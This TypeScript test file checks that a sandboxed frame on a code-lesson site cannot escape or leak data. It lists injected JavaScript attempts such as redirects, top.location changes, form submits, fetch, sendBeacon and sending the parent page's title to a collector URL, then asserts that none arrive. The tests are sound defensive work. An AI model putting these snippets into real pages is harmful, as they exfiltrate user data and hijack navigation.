/** An attacker who has got into the frame, which no cell can: it goes nowhere and says nothing. */
import { expect, inject } from 'vitest';
import { mutateSandbox } from '../site/mutate-sandbox.ts';
import { LESSON, test } from '../site/test.ts';
import { expectNextRunWorks, UNDER_ATTACK } from './attack-page.ts';

/** What the frame does once it stands; `URL` becomes the collector's address. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  'go elsewhere': "location.href = 'URL';",
  'go elsewhere by a refresh':
    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=URL' }));",
  'follow a link': "Object.assign(document.createElement('a'), { href: 'URL' }).click();",
  'follow a link in a new tab':
    "Object.assign(document.createElement('a'), { href: 'URL', target: '_blank' }).click();",
  'open a window': "open('URL');",
  'move the page': "top.location = 'URL';",
  'send a form':
    "const form = document.body.appendChild(document.createElement('form')); form.action = 'URL'; form.submit();",
  'load a picture': "new Image().src = 'URL';",
  'load a style sheet':
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'URL' }));",
  'prefetch a page':
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'URL' }));",
  'load a frame': "document.body.append(Object.assign(document.createElement('iframe'), { src: 'URL' }));",
  fetch: "fetch('URL', { mode: 'no-cors' }).catch(() => {});",
  'send a beacon': "navigator.sendBeacon('URL', 'secret');",
  'read the page': "fetch('URL/' + parent.document.title);",
  'ask for storage': "indexedDB.open('replaybook').onsuccess = () => { location.href = 'URL'; };",
};

/** Refused or not, these take the frame away: nothing can be tried in it afterwards. */
const LEAVING = ['go elsewhere', 'go elsewhere by a refresh', 'follow a link', 'move the page', 'send a form'];
const isLeaving = (name: string): boolean => LEAVING.includes(name);

/** Names of attempts that are made in one frame. */
const TOGETHER = [...LEAVING.map((name) => [name]), Object.keys(ATTEMPTS).filter((name) => !isLeaving(name))].map(
  (names) => [names.join(', nor '), names] as const,
);

test.for(TOGETHER)('the frame cannot %s', async ([, names], { serve, openPage, collector }) => {
  const tries = names.map((name) => `try { ${ATTEMPTS[name]} } catch {}`).join('\n');
  const code = tries.replaceAll('URL', `${collector.origin}/secret`);
  // Attempts are made after the next task, and said to be: then the browser has had its chance to say no.
  const script = `setTimeout(() => { ${code} setTimeout(() => console.log('has tried'), 300); });`;
  const rewrite = mutateSandbox(inject('sites').normal, { bootstrap: (bootstrap) => `${bootstrap};${script}` });
  const site = await serve({ rewrite });
  const page = await openPage(site.url(), {
    ...UNDER_ATTACK,
    expects: [...(UNDER_ATTACK.expects ?? []), 'page error'],
  });
  const pages = page.context().pages().length;
  const isLast = names.some(isLeaving) ? /has tried|violates|refused|blocked/i : /has tried/;
  const tried = page.waitForEvent('console', (message) => isLast.test(message.text()));
  await page.goto(site.url(LESSON.en));
  await tried;
  await page.getByRole('heading', { level: 1 }).click();
  expect(page.context().pages()).toHaveLength(pages);
  expect(page.url()).toBe(site.url(LESSON.en));
  expect(collector.hits).toEqual([]);
});

test('a frame with something in it that stays is still a frame that runs cells', async ({ serve, openPage }) => {
  const rewrite = mutateSandbox(inject('sites').normal, { bootstrap: (bootstrap) => `${bootstrap};1;` });
  const page = await openPage((await serve({ rewrite })).url(LESSON.en), { hasTouch: true });
  await expectNextRunWorks(page);
});
